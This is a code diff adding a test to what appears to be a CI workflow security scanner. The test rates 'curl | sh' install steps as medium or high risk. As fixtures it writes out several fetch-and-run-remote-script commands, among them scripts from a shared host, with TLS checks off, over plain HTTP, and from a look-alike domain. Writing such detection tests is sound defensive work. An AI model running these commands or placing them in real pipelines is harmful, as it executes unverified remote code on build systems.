@@ -83,6 +83,18 @@ jobs:
     expect(findings(content)).toEqual([]);
   });
 
+  it("is medium for a tool vendor's own installer over HTTPS, high from a shared host, without TLS checks or over HTTP", () => {
+    const workflow = (run: string) => `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${run}\n`;
+    expect(findings(workflow("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y"))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    expect(findings(workflow('curl -LsSf https://astral.sh/uv/install.sh | sh'))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    // Anyone publishes on raw.githubusercontent.com; -k and plain HTTP let the network choose the script.
+    expect(findings(workflow('curl -fsSL https://raw.githubusercontent.com/someone/tool/main/install.sh | bash'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    expect(findings(workflow('curl -k -fsSL https://bun.sh/install | bash'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    expect(findings(workflow('curl -fsSL http://bun.sh/install | bash'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    // A look-alike of an installer host is no installer host.
+    expect(findings(workflow('curl -fsSL https://sh.rustup.rs.example.net/init | sh'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+  });
+
   it('reads composite actions and their Docker images', () => {
     const composite = `name: setup
 runs:
